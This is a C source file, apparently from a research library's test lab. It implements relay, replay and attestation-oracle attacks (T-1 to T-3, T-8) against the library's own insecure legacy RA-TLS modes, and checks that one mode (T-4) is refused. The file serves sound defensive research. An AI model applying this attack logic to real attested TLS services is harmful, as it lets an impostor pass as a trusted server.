/*
 * attacks_legacy.c - the attackers against the INSECURE legacy modes (research protocol.md
 * 9.2-9.3: T-1, T-2, T-3, T-8 against ra-nonce / ra-key / ra-key-nonce) and the refused
 * ra-early-exporter mode (T-4). The legacy modes carry the evidence inside the TLS
 * handshake (server certificate), so these attackers work on the TLS layer itself.
 */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include <openssl/rand.h>
#include <openssl/x509.h>

#include "binding/legacy_binder.h"
#include "binding/ratls_ext.h"
#include "lab/lab.h"
#include "tls/legacy.h"

/* ---- T-4 (and every ra-early-exporter cell): the library must refuse the mode ---- */

void lab_t4_early_exporter(struct lab_env *env, const struct lab_cell *cell,
                           struct lab_outcome *o)
{
    (void)env;
    struct tether_config *c = tether_config_new();
    if (!c) {
        lab_fail(o, "out of memory");
        return;
    }
    if (tether_config_set_insecure_legacy_mode(c, lab_mode_name(cell->mode)) == 0) {
        lab_fail(o, "the library accepted %s: the lab has no attacker for it",
                 lab_mode_name(cell->mode));
    } else if (tether_config_error_category(c) != TETHER_ERR_USAGE) {
        lab_fail(o, "setting %s failed, but not as a refused mode: %s", lab_mode_name(cell->mode),
                 tether_config_error(c) ? tether_config_error(c) : "(no message)");
    } else {
        o->ran = false;
        snprintf(o->reason, sizeof o->reason, "the library refuses %s: %s",
                 lab_mode_name(cell->mode),
                 tether_config_error(c) ? tether_config_error(c) : "(no message)");
    }
    tether_config_free(c);
}

/* ---- helpers ---- */

static enum legacy_mode legacy_of(enum lab_mode m)
{
    enum legacy_mode lm = LEGACY_NONE;
    if (legacy_mode_parse(lab_mode_name(m), &lm) != 0)
        lm = LEGACY_NONE;
    return lm;
}

static struct lab_server *s2_of(struct lab_env *env, const struct lab_cell *cell,
                                struct lab_outcome *o)
{
    char err[256] = "";
    struct lab_server *s = lab_server_get(env, cell->mode, 2, err, sizeof err);
    if (!s)
        lab_fail(o, "genuine server S2: %s", err);
    return s;
}

static void close_fd(int fd)
{
    if (fd >= 0) {
        shutdown(fd, SHUT_RDWR);
        close(fd);
    }
}

/* ---- T-1 / T-2: relay inside the handshake ----
 * The attacker reads the client's nonce from the ClientHello's server_name (in clear),
 * opens its own connection to S2 with the same server_name, and S2 mints a certificate with
 * evidence over that nonce. T-1 copies the evidence extension into a certificate for the
 * attacker's own key (no extraction needed); T-2 presents S2's certificate unchanged, with
 * S2's extracted TLS key. All of this runs in the certificate callback of the attacker's
 * handshake with the client, before it answers the ClientHello. */

struct handshake_relay {
    struct lab_attacker *a;
    struct lab_server *s;
    bool leaked_key;  /* T-2 */
    SSL *up;          /* the attacker's connection to S2 */
    int up_fd;
};

static int relay_cert_cb(SSL *ssl, void *arg)
{
    struct handshake_relay *r = arg;
    if (r->up)
        return 1; /* again after a HelloRetryRequest: already in place */
    const char *sni = SSL_get_servername(ssl, TLSEXT_NAMETYPE_host_name);
    r->up_fd = lab_dial(r->s->port);
    r->up = r->up_fd >= 0 ? lab_tls_connect(r->up_fd, sni) : NULL;
    if (!r->up) {
        lab_note(r->a, "cannot open the relayed handshake with S2");
        return 0;
    }
    X509 *scert = SSL_get1_peer_certificate(r->up);
    EVP_PKEY *key = NULL;
    X509 *cert = NULL;
    if (scert && r->leaked_key) {
        key = lab_server_leaked_key_for(r->s, X509_get0_pubkey(scert));
        cert = scert;
        scert = NULL;
        if (!key)
            lab_note(r->a, "S2's TLS key did not leak");
    } else if (scert) {
        const uint8_t *v = NULL;
        size_t n = 0;
        key = lab_new_key();
        if (key && legacy_cert_extension(scert, &v, &n) == 0)
            cert = legacy_cert_with_extension(key, v, n);
        if (!cert)
            lab_note(r->a, "S2's certificate has no evidence extension to copy");
    }
    int ok = key && cert && SSL_use_certificate(ssl, cert) == 1 &&
             SSL_use_PrivateKey(ssl, key) == 1;
    if (ok)
        lab_note(r->a, "%s; %s",
                 sni ? "copied the client's nonce (server_name) into its own handshake with S2"
                     : "opened its own handshake with S2 (the client sent no nonce)",
                 r->leaked_key ? "presented S2's certificate with its leaked TLS key"
                               : "copied S2's evidence into a certificate for its own key");
    X509_free(scert);
    X509_free(cert);
    EVP_PKEY_free(key);
    return ok ? 1 : 0;
}

static void relay_setup(SSL_CTX *c, void *arg)
{
    SSL_CTX_set_cert_cb(c, relay_cert_cb, arg);
}

static void script_handshake_relay(struct lab_attacker *a)
{
    struct handshake_relay *r = a->arg;
    r->a = a;
    r->up = NULL;
    r->up_fd = -1;
    int fd = lab_attacker_accept(a);
    if (fd < 0)
        return;
    SSL *c = lab_tls_accept(fd, NULL, NULL, relay_setup, r);
    if (c)
        lab_relay_data(c, r->up, &a->plain);
    else
        lab_note(a, "the client refused the handshake");
    lab_tls_free(c);
    close_fd(fd);
    lab_tls_free(r->up);
    close_fd(r->up_fd);
    r->up = NULL;
}

void lab_t1_nonce_relay(struct lab_env *env, const struct lab_cell *cell, struct lab_outcome *o)
{
    struct handshake_relay r = {.s = s2_of(env, cell, o)};
    if (r.s)
        lab_run_attack(env, cell, o, script_handshake_relay, &r, 1, NULL);
}

void lab_t2_key_relay(struct lab_env *env, const struct lab_cell *cell, struct lab_outcome *o)
{
    struct handshake_relay r = {.s = s2_of(env, cell, o), .leaked_key = true};
    if (r.s)
        lab_run_attack(env, cell, o, script_handshake_relay, &r, 1, NULL);
}

/* ---- T-3: replay of one session's certificate and extracted key ---- */

struct legacy_replay {
    X509 *cert;
    EVP_PKEY *key;
};

static void script_legacy_replay(struct lab_attacker *a)
{
    struct legacy_replay *rp = a->arg;
    for (int i = 0; i < a->sessions; i++) {
        int fd = lab_attacker_accept(a);
        if (fd < 0)
            return;
        SSL *c = lab_tls_accept(fd, rp->key, rp->cert, NULL, NULL);
        if (c)
            lab_relay_data(c, NULL, &a->plain);
        lab_tls_free(c);
        close_fd(fd);
    }
    lab_note(a, "served the certificate and leaked key of an earlier S2 session to every client");
}

void lab_t3_replay(struct lab_env *env, const struct lab_cell *cell, struct lab_outcome *o)
{
    if (cell->mode == LAB_TETHER) {
        lab_t3_replay_tether(env, cell, o);
        return;
    }
    struct lab_server *s = s2_of(env, cell, o);
    if (!s)
        return;
    /* Session 1: the attacker's own connection to S2 (with a nonce of its own, if the mode
     * wants one); it keeps the certificate and the key that leaks from S2. */
    struct legacy_replay rp = {0};
    char sni[LEGACY_SNI_LEN + 1];
    uint8_t nonce[LEGACY_NONCE_LEN];
    bool nonce_mode = legacy_mode_has_nonce(legacy_of(cell->mode));
    if (nonce_mode) {
        RAND_bytes(nonce, sizeof nonce);
        legacy_sni_encode(nonce, sni);
    }
    int fd = lab_dial(s->port);
    SSL *up = fd >= 0 ? lab_tls_connect(fd, nonce_mode ? sni : NULL) : NULL;
    rp.cert = up ? SSL_get1_peer_certificate(up) : NULL;
    rp.key = rp.cert ? lab_server_leaked_key_for(s, X509_get0_pubkey(rp.cert)) : NULL;
    lab_tls_free(up);
    close_fd(fd);
    if (!rp.key) {
        lab_fail(o, "session 1 with S2 gave no certificate and leaked key");
    } else {
        lab_run_attack(env, cell, o, script_legacy_replay, &rp, 2, NULL);
    }
    X509_free(rp.cert);
    EVP_PKEY_free(rp.key);
}

/* ---- T-8: evidence from the attestation oracle, in the handshake ---- */

struct legacy_oracle {
    struct lab_attacker *a;
    const char *tee;
    enum legacy_mode mode;
};

static int oracle_cert_cb(SSL *ssl, void *arg)
{
    struct legacy_oracle *or = arg;
    uint8_t nonce[LEGACY_NONCE_LEN];
    bool has_nonce = legacy_mode_has_nonce(or->mode);
    if (has_nonce &&
        legacy_sni_decode(SSL_get_servername(ssl, TLSEXT_NAMETYPE_host_name), nonce) != 0) {
        lab_note(or->a, "the client sent no nonce");
        return 0;
    }
    EVP_PKEY *key = lab_new_key();
    uint8_t *spki = NULL, *ev = NULL;
    int spki_len = key ? i2d_PUBKEY(key, &spki) : -1;
    size_t ev_len = 0;
    struct binder b;
    struct bytes_writer w;
    writer_init(&w, RATLS_EXT_MAX);
    X509 *cert = NULL;
    char err[256] = "";
    int ok = 0;
    /* What the client will expect for the attacker's own key, signed by the oracle. */
    if (spki_len <= 0 || legacy_binder_compute(or->mode, spki, (size_t)spki_len,
                                               has_nonce ? nonce : NULL,
                                               has_nonce ? sizeof nonce : 0, &b) != 0)
        goto out;
    if (lab_oracle_evidence(or->tee, &b, &ev, &ev_len, err, sizeof err) != 0) {
        lab_note(or->a, "oracle: %s", err);
        goto out;
    }
    struct ratls_claims claims;
    memset(&claims, 0, sizeof claims);
    claims.has_pubkey_hash = true;
    claims.hash_alg = RATLS_HASH_SHA256;
    claims.pubkey_hash_len = 32;
    unsigned dl = 0;
    if (!EVP_Digest(spki, (size_t)spki_len, claims.pubkey_hash, &dl, EVP_sha256(), NULL))
        goto out;
    if (has_nonce) {
        claims.has_nonce = true;
        memcpy(claims.nonce, nonce, sizeof nonce);
        claims.nonce_len = sizeof nonce;
    }
    if (ratls_ext_encode(RATLS_TAG_TETHER_SIM, ev, ev_len, &claims, &w) != 0 ||
        !(cert = legacy_cert_with_extension(key, w.data, w.len)))
        goto out;
    ok = SSL_use_certificate(ssl, cert) == 1 && SSL_use_PrivateKey(ssl, key) == 1;
    if (ok)
        lab_note(or->a, "a certificate for its own key with evidence from S2's oracle");
out:
    writer_free(&w);
    free(ev);
    OPENSSL_free(spki);
    X509_free(cert);
    EVP_PKEY_free(key);
    return ok;
}

static void oracle_setup(SSL_CTX *c, void *arg)
{
    SSL_CTX_set_cert_cb(c, oracle_cert_cb, arg);
}

static void script_legacy_oracle(struct lab_attacker *a)
{
    struct legacy_oracle *or = a->arg;
    or->a = a;
    int fd = lab_attacker_accept(a);
    if (fd < 0)
        return;
    SSL *c = lab_tls_accept(fd, NULL, NULL, oracle_setup, or);
    if (c)
        lab_relay_data(c, NULL, &a->plain);
    lab_tls_free(c);
    close_fd(fd);
}

void lab_t8_oracle(struct lab_env *env, const struct lab_cell *cell, struct lab_outcome *o)
{
    if (cell->mode == LAB_TETHER) {
        lab_t8_oracle_tether(env, cell, o);
        return;
    }
    struct legacy_oracle or = {.tee = env->tee[1], .mode = legacy_of(cell->mode)};
    lab_run_attack(env, cell, o, script_legacy_oracle, &or, 1, NULL);
}
